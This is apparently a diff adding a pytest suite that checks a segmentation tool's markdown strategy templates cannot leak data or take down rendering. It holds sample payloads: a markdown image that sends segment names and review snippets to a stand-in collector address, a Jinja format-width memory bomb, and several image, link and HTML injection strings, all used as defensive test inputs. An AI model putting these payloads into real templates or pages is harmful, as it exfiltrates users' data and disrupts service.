@@ -1,0 +1,110 @@
+"""Templates cannot hurt the reader (issue 27): nothing they write makes a browser fetch an address,
+one failing template never blanks the others, aspect names reach the templates unescaped."""
+from __future__ import annotations
+
+import copy
+
+import pandas as pd
+import pytest
+from markdown_it import MarkdownIt
+
+from segcore.strategy.report import report_html, report_markdown
+from segcore.strategy.safe_markdown import inert_markdown, md_escape
+from segcore.strategy.suggest import _trial_profiles, customer_actions, load_templates, render_strategies
+from segcore.strategy.template_meta import check_for_saving, check_template
+
+LEAK = "![ ](http://127.0.0.1:9911/leak?n={{seg.name|urlencode}}&ex={{seg.examples[0][:60]|urlencode}})"
+# passed the save check before (its condition holds on the made-up segments too), then blanked every strategy
+BOMB = '{% if seg.n_reviews > 100 %}{{ ("%(a)900000000s" % {"a":1})|length }}{% endif %}'
+
+
+def _fetching(markdown: str) -> list[str]:
+    """What a CommonMark + GFM-table renderer would turn into an image, a link or HTML."""
+    found, stack = [], list(MarkdownIt("commonmark").enable("table").parse(markdown))
+    while stack:
+        token = stack.pop()
+        if token.type in ("image", "link_open", "html_inline", "html_block"):
+            found.append(token.type)
+        stack.extend(token.children or ())
+    return found
+
+
+def _profile(seg: int, **changes) -> dict:
+    profile = copy.deepcopy(_trial_profiles()[1])
+    profile.update(segment_id=seg, **changes)
+    return profile
+
+
+@pytest.mark.parametrize("text", [
+    "![p](http://host/p.png)", "[site](https://host/)", "<http://host/>", "<img src=http://host/p.png>",
+    "![a][r]\n\n[r]: http://host/p.png", "see http://host/x and www.host.com", "mail me: a@host.com",
+    r"\![p](http://host/p.png)", r"\\![p](http://host/p.png)", "[![p](http://h/p.png)](http://h/)",
+    "`code` ![p](http://host/p.png) `more`", "- item ![p](//host/p.png)\n- [x]: http://host/",
+])
+def test_inert_markdown_leaves_no_image_link_or_html(text):
+    out = inert_markdown(text)
+    html = MarkdownIt("commonmark").render(out)
+    assert _fetching(out) == [] and "href" not in html and "<img" not in html
+    assert inert_markdown(out) == out  # made inert once is inert
+
+
+def test_inert_markdown_keeps_the_formatting():
+    text = "## Title\n\n**bold** and _it_, 30% off\n\n- one\n- two\n\n> quoted\n\n| a | b |\n|---|---|\n| 1 | 2 |"
+    assert inert_markdown(text) == text
+
+
+def test_a_remote_image_template_renders_as_text_on_the_page_and_in_the_reports():
+    """Issue 27: alice's template sent bob's segment names and review snippets to her address."""
+    templates = {"99_leak": LEAK, **load_templates()}
+    profiles = {1: _profile(1, name="Coffee fans")}
+    shown = render_strategies(profiles, templates=templates, page=True)
+    text = next(i["text"] for i in shown[1] if i["template"] == "99_leak")
+    assert _fetching(text) == [] and "127.0.0.1" in text  # shown, as text
+    raw = render_strategies(profiles, templates=templates)  # the exports' values
+    report = report_markdown(profiles, raw)
+    assert _fetching(report) == [] and "127.0.0.1" in report
+    page = report_html(report)
+    assert "<img" not in page and "<a " not in page and "127.0.0.1" in page
+    preview = check_template(LEAK, name="99_leak", profiles=profiles)  # the editor's preview
+    assert _fetching(preview[1]) == []
+
+
+def test_data_with_markdown_is_text_on_the_page():
+    name = "![p](http://host/p.png) **VIP**"
+    shown = render_strategies({1: _profile(1, name=name)}, templates={"t": "## {{ seg.name }}"}, page=True)
+    assert shown[1][0]["text"] == "## " + md_escape(name)
+    raw = render_strategies({1: _profile(1, name=name)}, templates={"t": "## {{ seg.name }}"})
+    assert raw[1][0]["text"] == "## " + name  # exports keep the value as it is
+
+
+def test_one_failing_template_leaves_the_others_and_the_campaign_actions():
+    """Issue 27: the width bomb blanked every strategy and the actions fell back to "Monitor"."""
+    templates = {"00_bomb": BOMB, **load_templates()}
+    profiles = {1: _profile(1)}
+    with pytest.raises(Exception, match="Template '00_bomb' failed"):
+        check_for_saving(BOMB, name="00_bomb", profiles=profiles)  # refused at save now
+    errors: list = []
+    strategies = render_strategies(profiles, templates=templates, errors=errors)
+    shipped = render_strategies(profiles, templates=load_templates())
+    assert [str(e) for e in errors] == [
+        "Template '00_bomb' failed for segment 1 (line 1): format width 900000000 is larger than 1,000; fix or reset it."]
+    assert strategies == shipped and strategies[1]  # the others, unchanged
+    customers = pd.DataFrame({"segment_id": [1, 1], "share_negative": [0.0, 0.8], "share_neutral": [0.0, 0.0]})
+    actions = customer_actions(customers, strategies)["action"].tolist()
+    assert "Monitor" not in actions and actions == customer_actions(customers, shipped)["action"].tolist()
+
+
+@pytest.mark.parametrize("aspect", ["after-sales", "size_fit", "price (per kg)"])
+def test_aspect_names_with_markdown_characters(aspect):
+    """Issue 27: 'after-sales' (and the shipped 'size_fit') broke 07_aspect_recovery on the page."""
+    profile = _profile(1, aspects={aspect: {"share": 0.4, "n_reviews": 60, "positive": 0.2, "negative": 0.7}},
+                       negative_aspects=[{"name": aspect, "negative_mention_share": 0.5, "n_reviews": 60}])
+    errors: list = []
+    texts = {}
+    for language in ("en", "zh"):
+        shown = render_strategies({1: profile}, templates=load_templates(language=language), page=True, errors=errors)
+        texts[language] = next(i["text"] for i in shown[1] if i["template"] == "07_aspect_recovery")
+    assert errors == []
+    assert aspect.replace("_", "/") in MarkdownIt("commonmark").render(texts["en"])  # shown as written
+    if aspect == "size_fit":  # its own play, not the generic one: the condition saw the raw name
+        assert "Send a size and portion guide" in texts["en"]
